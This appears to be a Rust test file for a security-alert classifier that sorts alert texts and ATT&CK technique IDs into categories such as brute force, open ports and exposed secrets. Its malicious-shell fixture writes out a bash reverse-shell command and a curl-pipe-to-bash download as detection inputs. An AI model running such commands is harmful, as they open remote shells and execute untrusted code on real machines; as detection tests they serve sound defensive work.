use super::*;

#[test]
fn synonyms_are_one_activity() {
    for (expected, texts) in [
        (
            "brute_force",
            &[
                "Burst of failed logins for admin from one address",
                "Brute-force attack succeeded",
                "Failed password for admin from 203.0.113.45 port 51502 ssh2",
                "Password spraying suspected",
            ][..],
        ),
        (
            "malicious_shell",
            &[
                "bash -i >& /dev/tcp/203.0.113.45/4444 0>&1",
                "curl -s http://203.0.113.45/x.sh | bash",
                "Reverse shell from web-01",
            ],
        ),
        (
            "open_port",
            &[
                "Port 22 is open to 0.0.0.0/0",
                "SSH open to the whole internet",
            ],
        ),
        ("certificate", &["TLS certificate expires in 3 days"]),
        ("mfa_fatigue", &["MFA fatigue / push bombing (5 denials)"]),
        ("ocr_backlog", &["OCR backlog on team"]),
        ("data_extraction_prompt", &["Data-exfiltration prompt"]),
        (
            "secret_exposed",
            &["AWS_ACCESS_KEY_ID=AKIA…(masked)", "AWS key leaked"],
        ),
    ] {
        for text in texts {
            assert_eq!(of_text(text), Some(expected), "{text}");
        }
    }
    assert_eq!(of_text("All systems operational"), None);
    assert_eq!(of_text("preexploitation"), None);
}

#[test]
fn sub_technique_has_the_activity_of_its_parent() {
    assert_eq!(of_technique("T1110.003"), Some("brute_force"));
    assert_eq!(of_technique("T1059.001"), Some("encoded_powershell"));
    assert_eq!(of_technique("T1059"), None);
}

#[test]
fn phrases_are_normalised() {
    for (name, phrases, _) in ENTRIES {
        for phrase in *phrases {
            let plain = |c: char| c == ' ' || c.is_ascii_digit() || c.is_ascii_lowercase();
            assert!(phrase.chars().all(plain), "{name}: {phrase}");
        }
    }
}
